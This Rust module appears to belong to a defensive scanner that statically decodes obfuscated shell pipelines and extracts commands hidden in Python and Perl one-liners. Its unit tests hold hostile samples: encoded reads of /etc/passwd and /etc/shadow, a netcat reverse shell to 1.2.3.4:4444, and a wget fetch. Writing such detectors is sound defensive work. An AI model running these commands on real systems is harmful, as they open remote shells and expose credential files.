//! Static evaluation of data-only commands and the decoders attackers chain to hide commands:
//! `echo`/`printf`/here-strings produce text, filters (`base64 -d`, `base32 -d`, `xxd -r`,
//! `gunzip`, `rev`, `tr`) transform it, and an interpreter at the end runs it. Nothing is
//! executed; anything not understood makes the evaluation give up (`None`).

use super::{MAX_DECODED_BYTES, fallback};
use base64::Engine;
use std::io::Read;

/// One stage of a pipeline, as far as static evaluation needs it.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Stage {
    pub program: String,
    pub args: Vec<String>,
    /// Text fed by `<<<` or a here-document.
    pub input: Option<String>,
}

/// Programs that run code given on their standard input.
pub const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh", "ash", "mksh", "busybox"];

/// Runs data-only stages statically: returns the output and the decoding steps used.
pub fn run_static(stages: &[Stage]) -> Option<(String, Vec<String>)> {
    let mut data: Option<Vec<u8>> = None;
    let mut steps = Vec::new();
    for stage in stages {
        let input = stage.input.as_ref().map(|text| text.as_bytes().to_vec()).or(data.take());
        let (output, step) = run_stage(stage, input)?;
        if output.len() > MAX_DECODED_BYTES {
            return None;
        }
        if let Some(step) = step {
            steps.push(step.to_string());
        }
        data = Some(output);
    }
    let bytes = data?;
    Some((String::from_utf8_lossy(&bytes).into_owned(), steps))
}

/// The output of a command line that only prints and decodes data (`echo ... | base64 -d`).
pub fn evaluate_output(text: &str, _variables: &super::Variables, depth: usize) -> Option<String> {
    if depth > super::MAX_DEPTH {
        return None;
    }
    let pipelines = fallback::split_commands(text);
    let [pipeline] = pipelines.as_slice() else {
        return None;
    };
    let stages: Vec<Stage> = pipeline.iter().map(|words| stage_from_words(words)).collect();
    run_static(&stages).map(|(output, _)| output)
}

/// A stage from plain words, taking a `<<<` here-string out of them.
pub fn stage_from_words(words: &[String]) -> Stage {
    let mut stage =
        Stage { program: base_name(words.first().map_or("", String::as_str)).to_string(), ..Stage::default() };
    let mut rest = words.iter().skip(1);
    while let Some(word) = rest.next() {
        if word == "<<<" {
            stage.input = rest.next().map(|text| format!("{text}\n"));
        } else if let Some(text) = word.strip_prefix("<<<") {
            stage.input = Some(format!("{text}\n"));
        } else {
            stage.args.push(word.clone());
        }
    }
    stage
}

/// The last path component of a program.
pub fn base_name(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

fn has_flag(stage: &Stage, flags: &[&str]) -> bool {
    stage.args.iter().any(|arg| {
        flags.contains(&arg.as_str())
            || (arg.starts_with('-')
                && !arg.starts_with("--")
                && flags.iter().any(|flag| flag.len() == 2 && arg.contains(&flag[1..])))
    })
}

fn run_stage(stage: &Stage, input: Option<Vec<u8>>) -> Option<(Vec<u8>, Option<&'static str>)> {
    let arguments: Vec<&String> = stage.args.iter().filter(|arg| !arg.starts_with('-')).collect();
    match stage.program.as_str() {
        "echo" => {
            let interpret = stage.args.iter().take_while(|arg| arg.starts_with('-')).any(|arg| arg.contains('e'));
            let text = stage
                .args
                .iter()
                .skip_while(|arg| arg.starts_with('-') && arg.len() <= 3)
                .cloned()
                .collect::<Vec<_>>()
                .join(" ");
            let newline = !stage.args.iter().take_while(|arg| arg.starts_with('-')).any(|arg| arg.contains('n'));
            let mut output = if interpret { echo_unescape(&text).into_bytes() } else { text.into_bytes() };
            if newline {
                output.push(b'\n');
            }
            Some((output, interpret.then_some("echo-e")))
        }
        "printf" => {
            let format = stage.args.first()?;
            let values = &stage.args[1..];
            let mut text = echo_unescape(format);
            for value in values {
                if let Some(position) = text.find("%s").or_else(|| text.find("%b")) {
                    text.replace_range(position..position + 2, value);
                }
            }
            let step = format.contains("\\x") || format.contains("\\0") || format.contains('\\');
            Some((text.into_bytes(), step.then_some("printf-escapes")))
        }
        "cat" if arguments.is_empty() || arguments.iter().all(|arg| arg.as_str() == "-") => Some((input?, None)),
        "base64" | "openssl"
            if has_flag(stage, &["-d", "--decode", "-D"])
                || stage.args.iter().any(|arg| arg == "base64")
                    && stage.program == "openssl"
                    && has_flag(stage, &["-d"]) =>
        {
            Some((decode_base64(&input?)?, Some("base64")))
        }
        "base32" if has_flag(stage, &["-d", "--decode"]) => Some((decode_base32(&input?)?, Some("base32"))),
        "xxd" if has_flag(stage, &["-r"]) => {
            let bytes =
                if has_flag(stage, &["-p", "-ps", "-plain"]) { decode_hex(&input?)? } else { decode_hexdump(&input?)? };
            Some((bytes, Some("hex")))
        }
        "gunzip" | "zcat" => Some((gunzip(&input?)?, Some("gzip"))),
        "gzip" if has_flag(stage, &["-d", "--decompress"]) => Some((gunzip(&input?)?, Some("gzip"))),
        "rev" => {
            let text = String::from_utf8_lossy(&input?).into_owned();
            let reversed: Vec<String> = text.lines().map(|line| line.chars().rev().collect()).collect();
            Some((format!("{}\n", reversed.join("\n")).into_bytes(), Some("rev")))
        }
        "tr" if arguments.len() == 2 => {
            let from = expand_tr_set(arguments[0]);
            let to = expand_tr_set(arguments[1]);
            if from.is_empty() || to.is_empty() {
                return None;
            }
            let text = String::from_utf8_lossy(&input?).into_owned();
            let mapped: String = text
                .chars()
                .map(|c| from.iter().position(|&f| f == c).map_or(c, |index| to[index.min(to.len() - 1)]))
                .collect();
            Some((mapped.into_bytes(), Some("tr")))
        }
        _ => None,
    }
}

/// Expands a `tr` set such as `A-Za-z`.
fn expand_tr_set(set: &str) -> Vec<char> {
    let chars: Vec<char> = set.chars().collect();
    let mut out = Vec::new();
    let mut index = 0;
    while index < chars.len() {
        if index + 2 < chars.len() && chars[index + 1] == '-' && chars[index] <= chars[index + 2] {
            out.extend(chars[index]..=chars[index + 2]);
            index += 3;
        } else {
            out.push(chars[index]);
            index += 1;
        }
        if out.len() > 4096 {
            break;
        }
    }
    out
}

/// A decoder of encoded bytes (base64, hex, ...).
pub type Decoder = fn(&[u8]) -> Option<Vec<u8>>;

/// Decodes base64 (standard or URL-safe, whitespace ignored, padding optional).
pub fn decode_base64(input: &[u8]) -> Option<Vec<u8>> {
    let cleaned: Vec<u8> = input.iter().copied().filter(|byte| !byte.is_ascii_whitespace()).collect();
    let engines = [
        base64::engine::general_purpose::STANDARD,
        base64::engine::general_purpose::STANDARD_NO_PAD,
        base64::engine::general_purpose::URL_SAFE,
        base64::engine::general_purpose::URL_SAFE_NO_PAD,
    ];
    engines.iter().find_map(|engine| engine.decode(&cleaned).ok())
}

fn decode_base32(input: &[u8]) -> Option<Vec<u8>> {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
    let mut bits: u64 = 0;
    let mut count = 0;
    let mut out = Vec::new();
    for &byte in input.iter().filter(|byte| !byte.is_ascii_whitespace() && **byte != b'=') {
        let value = ALPHABET.iter().position(|&c| c == byte.to_ascii_uppercase())? as u64;
        bits = (bits << 5) | value;
        count += 5;
        if count >= 8 {
            count -= 8;
            out.push((bits >> count) as u8);
            bits &= (1 << count) - 1;
        }
    }
    Some(out)
}

/// Decodes plain hex digits (whitespace ignored).
pub fn decode_hex(input: &[u8]) -> Option<Vec<u8>> {
    let digits: Vec<u8> = input.iter().copied().filter(|byte| !byte.is_ascii_whitespace()).collect();
    if !digits.len().is_multiple_of(2) {
        return None;
    }
    digits.chunks(2).map(|pair| u8::from_str_radix(std::str::from_utf8(pair).ok()?, 16).ok()).collect()
}

/// Decodes `xxd` hexdump lines (`00000000: 6361 7420 ...  cat ...`).
fn decode_hexdump(input: &[u8]) -> Option<Vec<u8>> {
    let text = String::from_utf8_lossy(input);
    let mut out = Vec::new();
    for line in text.lines() {
        let body = line.split_once(':').map_or(line, |(_, rest)| rest);
        let hex_part = body.split("  ").next().unwrap_or("");
        out.extend(decode_hex(hex_part.as_bytes())?);
    }
    Some(out)
}

fn gunzip(input: &[u8]) -> Option<Vec<u8>> {
    let mut decoder = flate2::read::MultiGzDecoder::new(input).take(MAX_DECODED_BYTES as u64 + 1);
    let mut out = Vec::new();
    decoder.read_to_end(&mut out).ok()?;
    Some(out)
}

/// Interprets backslash escapes as `echo -e` and `printf` do (`\xHH`, `\0NNN`, `\NNN`, `\n`).
pub fn echo_unescape(text: &str) -> String {
    unescape(text, true)
}

/// Decodes the inside of an ANSI-C quoted string (`$'...'`).
pub fn ansi_c_unescape(text: &str) -> String {
    unescape(text, false)
}

fn unescape(text: &str, echo_style: bool) -> String {
    let mut bytes = Vec::with_capacity(text.len());
    let chars: Vec<char> = text.chars().collect();
    let mut index = 0;
    let take_digits = |start: usize, max: usize, radix: u32| -> (u32, usize) {
        let mut value = 0u32;
        let mut count = 0;
        while count < max && start + count < chars.len() && chars[start + count].is_digit(radix) {
            value = value * radix + chars[start + count].to_digit(radix).unwrap_or(0);
            count += 1;
        }
        (value, count)
    };
    while index < chars.len() {
        let c = chars[index];
        if c != '\\' || index + 1 == chars.len() {
            let mut buffer = [0u8; 4];
            bytes.extend_from_slice(c.encode_utf8(&mut buffer).as_bytes());
            index += 1;
            continue;
        }
        let escape = chars[index + 1];
        index += 2;
        match escape {
            'n' => bytes.push(b'\n'),
            't' => bytes.push(b'\t'),
            'r' => bytes.push(b'\r'),
            'a' => bytes.push(7),
            'b' => bytes.push(8),
            'e' | 'E' => bytes.push(0x1b),
            'f' => bytes.push(12),
            'v' => bytes.push(11),
            '\\' => bytes.push(b'\\'),
            '\'' => bytes.push(b'\''),
            '"' => bytes.push(b'"'),
            'x' => {
                let (value, count) = take_digits(index, 2, 16);
                if count == 0 {
                    bytes.extend_from_slice(b"\\x");
                } else {
                    bytes.push(value as u8);
                    index += count;
                }
            }
            'u' | 'U' => {
                let (value, count) = take_digits(index, if escape == 'u' { 4 } else { 8 }, 16);
                if let Some(decoded) = char::from_u32(value).filter(|_| count > 0) {
                    let mut buffer = [0u8; 4];
                    bytes.extend_from_slice(decoded.encode_utf8(&mut buffer).as_bytes());
                    index += count;
                }
            }
            '0' if echo_style => {
                let (value, count) = take_digits(index, 3, 8);
                bytes.push(value as u8);
                index += count;
            }
            '0'..='7' => {
                let (value, count) = take_digits(index - 1, 3, 8);
                bytes.push(value as u8);
                index += count - 1;
            }
            other => {
                bytes.push(b'\\');
                let mut buffer = [0u8; 4];
                bytes.extend_from_slice(other.encode_utf8(&mut buffer).as_bytes());
            }
        }
    }
    String::from_utf8_lossy(&bytes).into_owned()
}

/// Shell commands a Python or Perl one-liner runs (`os.system('...')`, `subprocess.run([...])`,
/// `system("...")`, backticks), with base64-wrapped code decoded first.
pub fn interpreter_commands(code: &str, depth: usize) -> Vec<String> {
    let mut commands = Vec::new();
    if depth > super::MAX_DEPTH {
        return commands;
    }
    for (regex, list) in [
        (
            static_regex!(
                r#"(?:os\.system|os\.popen|system|exec|pty\.spawn|subprocess\.(?:call|run|Popen|check_output|check_call|getoutput|getstatusoutput))\s*\(\s*(?:b?)(['"])(.*?)['"]"#
            ),
            false,
        ),
        (
            static_regex!(
                r#"(?:subprocess\.(?:call|run|Popen|check_output|check_call)|pty\.spawn|os\.exec\w*)\s*\(\s*\[([^\]]*)\]"#
            ),
            true,
        ),
        (static_regex!(r#"qx\{(.*?)\}|`([^`]+)`"#), false),
    ] {
        for captures in regex.captures_iter(code) {
            let found = if list {
                let items = captures.get(1).map_or("", |m| m.as_str());
                items
                    .split(',')
                    .map(|item| item.trim().trim_matches(|c| c == '\'' || c == '"'))
                    .filter(|item| !item.is_empty())
                    .collect::<Vec<_>>()
                    .join(" ")
            } else {
                captures
                    .iter()
                    .skip(1)
                    .flatten()
                    .map(|m| m.as_str())
                    .filter(|text| *text != "'" && *text != "\"")
                    .last()
                    .unwrap_or("")
                    .to_string()
            };
            if !found.trim().is_empty() {
                commands.push(found);
            }
        }
    }
    // Encoded payloads: base64 (`b64decode("...")`) and hex (`pack("H*", "...")`,
    // `bytes.fromhex("...")`). Python code is searched again; anything else runs as a command.
    let encoded: [(&regex::Regex, Decoder); 3] = [
        (static_regex!(r#"b64decode\(\s*b?['"]([A-Za-z0-9+/=_-]{8,})['"]"#), decode_base64),
        (static_regex!(r#"pack\(\s*(?:qq\(|['"])H\*(?:\)|['"])\s*,\s*(?:qq\(|['"])([0-9a-fA-F]{4,})"#), decode_hex),
        (static_regex!(r#"fromhex\(\s*['"]([0-9a-fA-F]{4,})['"]"#), decode_hex),
    ];
    for (regex, decoder) in encoded {
        for captures in regex.captures_iter(code) {
            if let Some(decoded) = captures.get(1).and_then(|m| decoder(m.as_str().as_bytes())) {
                let inner = String::from_utf8_lossy(&decoded).into_owned();
                let nested = interpreter_commands(&inner, depth + 1);
                if nested.is_empty() && !looks_like_code(&inner) {
                    commands.push(inner);
                } else {
                    commands.extend(nested);
                }
            }
        }
    }
    commands
}

/// Whether a decoded payload is interpreter code rather than a shell command.
fn looks_like_code(text: &str) -> bool {
    ["import ", "def ", "socket.", "subprocess", "os.", "__import__", "use ", "my $", "print("]
        .iter()
        .any(|marker| text.contains(marker))
}

/// True when interpreter code carries an encoded payload (base64 or hex).
pub fn has_encoded_payload(code: &str) -> bool {
    ["b64decode", "fromhex", "pack(", "decode('hex')", "codecs.decode"].iter().any(|marker| code.contains(marker))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn stages(text: &str) -> Vec<Stage> {
        fallback::split_commands(text).remove(0).iter().map(|words| stage_from_words(words)).collect()
    }

    #[test]
    fn decodes_common_chains() {
        let cases = [
            ("echo Y2F0IC9ldGMvcGFzc3dk | base64 -d", "cat /etc/passwd"),
            ("echo -e '\\x63\\x61\\x74'", "cat\n"),
            ("printf '\\143\\141\\164'", "cat"),
            ("echo 636174 | xxd -r -p", "cat"),
            ("echo dwssap/cte/ tac | rev", "cat /etc/passwd\n"),
            ("echo png /rgp/cnffjq | tr 'A-Za-z' 'N-ZA-Mn-za-m'", "cat /etc/passwd\n"),
            ("base64 -d <<< Y2F0", "cat"),
        ];
        for (text, expected) in cases {
            assert_eq!(run_static(&stages(text)).map(|(output, _)| output).as_deref(), Some(expected), "{text}");
        }
    }

    #[test]
    fn decodes_gzip_of_base64() {
        use std::io::Write;
        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        encoder.write_all(b"id; cat /etc/shadow").unwrap();
        let encoded = base64::engine::general_purpose::STANDARD.encode(encoder.finish().unwrap());
        let text = format!("echo {encoded} | base64 -d | gunzip");
        let (output, steps) = run_static(&stages(&text)).unwrap();
        assert_eq!(output, "id; cat /etc/shadow");
        assert_eq!(steps, vec!["base64", "gzip"]);
    }

    #[test]
    fn gives_up_on_real_commands() {
        assert!(run_static(&stages("cat /etc/passwd | base64 -d")).is_none());
        assert!(run_static(&stages("curl http://x | base64 -d")).is_none());
    }

    #[test]
    fn finds_commands_in_python_and_perl() {
        assert_eq!(interpreter_commands("import os; os.system('cat /etc/shadow')", 0), vec!["cat /etc/shadow"]);
        assert_eq!(
            interpreter_commands("import subprocess; subprocess.call(['nc','-e','/bin/sh','1.2.3.4','4444'])", 0),
            vec!["nc -e /bin/sh 1.2.3.4 4444"]
        );
        assert_eq!(
            interpreter_commands("exec(__import__('base64').b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))", 0),
            vec!["id"]
        );
        assert_eq!(interpreter_commands("system(\"wget http://x/y\")", 0), vec!["wget http://x/y"]);
        assert_eq!(
            interpreter_commands("import os,base64;os.system(base64.b64decode(\"aWQ7IHdob2FtaQ==\").decode())", 0),
            vec!["id; whoami"]
        );
        assert_eq!(interpreter_commands("system(pack(qq(H*),qq(6964)))", 0), vec!["id"]);
    }
}
